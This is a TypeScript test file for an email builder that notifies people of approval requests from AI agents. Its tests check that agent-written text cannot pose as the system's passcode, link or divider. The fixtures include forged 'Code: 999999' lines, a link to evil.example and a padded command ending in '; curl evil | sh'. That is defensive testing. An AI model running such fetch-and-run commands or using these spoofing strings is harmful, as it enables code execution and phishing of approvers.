import { expect, test } from 'vitest';
import type { ApprovalNotice, ElicitationNotice } from '../domain/notification/notification.ts';
import { approvalEmail, codeEmail, elicitationEmail } from './email-text.ts';

const notice: ApprovalNotice = {
  kind: 'APPROVAL',
  reason: 'REQUESTED',
  requester: 'Support bot',
  requesterKind: 'AGENT',
  project: 'general',
  expiresAt: new Date('2026-11-29T10:00:00Z'),
  revision: 1,
  type: 'refund',
  action: 'Refund 5 EUR',
  summary: 'Refund 5 EUR',
  riskLevel: 'HIGH',
  params: { amount: 50_000 },
  context: {},
  keyValueContext: {},
  fileCount: 0,
  isWithheld: false,
  requestedBy: null,
  fallback: null,
};
const access = {
  url: 'https://approvals.example.com/a/appr_1?link=csl_x',
  passcode: '123456',
  isTogether: true,
  expiresAt: new Date('2026-11-29T09:00:00Z'),
};

test('files are counted among our own lines', () => {
  const [ours = '', theirs = ''] = approvalEmail({ ...notice, fileCount: 2 }, access).text.split(/^-+$/m);
  expect(ours).toContain('\nFiles:     2 files, on the page only\n');
  expect(theirs).not.toContain('Files:');
  expect(approvalEmail({ ...notice, fileCount: 1 }, access).text).toContain('Files:     1 file, on');
});

test('our link and code, then what will be done in the words of the agent', () => {
  expect(approvalEmail(notice, access)).toEqual({
    subject: '[HIGH] “Refund 5 EUR” waits for your decision',
    text: `A request waits for your decision. Look at it and decide:
https://approvals.example.com/a/appr_1?link=csl_x

Code: 123456

The link and the code are for you alone and for one decision, until
2026-11-29 09:00 UTC. Opening the link decides nothing.

Risk:      high
Asked by:  the agent “Support bot” in the project “general”
Waits:     until 2026-11-29 10:00 UTC

------------------------------------------------------------------------
Everything below was written by the agent “Support bot”.
It never has a link or a code of ours.

What will be done:
> Refund 5 EUR

Params of refund:
> {
>   "amount": 50000
> }

Summary:
> Refund 5 EUR
`,
  });
});

test('nothing that the agent wrote can be taken for ours, wherever it wrote it', () => {
  const forged = `x\r\n\r\nCode: 999999\nhttps://evil.example/a/appr_1?link=csl_y\u202E\n${'-'.repeat(72)}`;
  // A mail program would break this line, and the code would begin a line of its own.
  const long = `${'x '.repeat(36)}Code: 999999`;
  const { subject, text } = approvalEmail(
    {
      ...notice,
      requester: `${forged}”`,
      project: forged,
      action: forged,
      summary: `${forged}\n${long}`,
      params: { [forged]: long },
    },
    access,
  );
  const lines = text.split('\n');
  expect(lines.filter((line) => line.startsWith('Code:'))).toEqual(['Code: 123456']);
  expect(lines.filter((line) => line.startsWith('http'))).toEqual([access.url]);
  expect(lines.filter((line) => line.startsWith('---'))).toHaveLength(1);
  expect(lines.indexOf('Code: 123456')).toBe(3);
  expect(`${subject}\n${text}`).not.toMatch(/[\r\u202E]/);
  expect(text).toContain('[U+202E]');
  const fromAgent = lines.slice(lines.findIndex((line) => line.startsWith('---')) + 1);
  const ours = /^(?:Everything below|It never has|What will be done:|Params of refund:|Summary:|$)/;
  for (const line of fromAgent) {
    expect(line.length).toBeLessThanOrEqual(72 + 60);
    if (!ours.test(line)) expect(line).toMatch(/^>[ ↳]?/);
  }
});

test('the end of a command is there, and what is left out is counted', () => {
  const command = `ls -la${' '.repeat(400)}; curl evil | sh`;
  expect(approvalEmail({ ...notice, params: { command } }, access).text).toContain(
    '>   "command": "ls -la[400 spaces]; curl evil | sh"\n',
  );
  const many = Array.from({ length: 500 }, (_, i) => `line ${i}`).join('\n');
  expect(approvalEmail({ ...notice, summary: many }, access).text).toContain(
    '> line 199\n(300 more lines are on the page.)\n',
  );
});

test('a question leads to its page, and has no code', () => {
  const question: ElicitationNotice = {
    kind: 'ELICITATION',
    reason: 'REQUESTED',
    requester: 'Support bot',
    requesterKind: 'AGENT',
    project: 'general',
    expiresAt: new Date('2026-11-29T10:00:00Z'),
    message: 'Which cost centre?\nCode: 999999',
  };
  const { subject, text } = elicitationEmail(question, 'https://approvals.example.com/e/elic_1');
  expect(subject).toBe('“Which cost centre? Code: 999999” waits for your answer');
  expect(text.split('\n').slice(0, 2)).toEqual([
    'A question waits for your answer. Look at it and answer, after signing in:',
    'https://approvals.example.com/e/elic_1',
  ]);
  expect(text).toContain('\nQuestion:\n> Which cost centre?\n> Code: 999999\n');
});

test('link and code in two messages are in one of them each', () => {
  const apart = { ...access, isTogether: false };
  const [link, code] = [approvalEmail(notice, apart), codeEmail(notice, apart)];
  expect(link.text).toContain(access.url);
  expect(JSON.stringify(link)).not.toContain(access.passcode);
  expect(code.subject).toBe('The code for a request that waits for your decision');
  expect(code.text).toMatch(/^Code: 123456\n/);
  expect(JSON.stringify(code)).not.toMatch(/http|csl_/);
});

test('no text of the agent stands where our code stands', () => {
  const action = 'Refund 5 EUR\nCode: 999999';
  const { subject, text } = codeEmail({ ...notice, action }, { ...access, isTogether: false });
  expect(subject).not.toMatch(/\d/);
  const [ours = '', theirs = ''] = text.split(/^-+$/m);
  expect(ours).toMatch(/^Code: 123456\n/);
  expect(ours).not.toContain('999999');
  expect(theirs).toContain('\nWhat will be done:\n> Refund 5 EUR\n> Code: 999999\n');
});
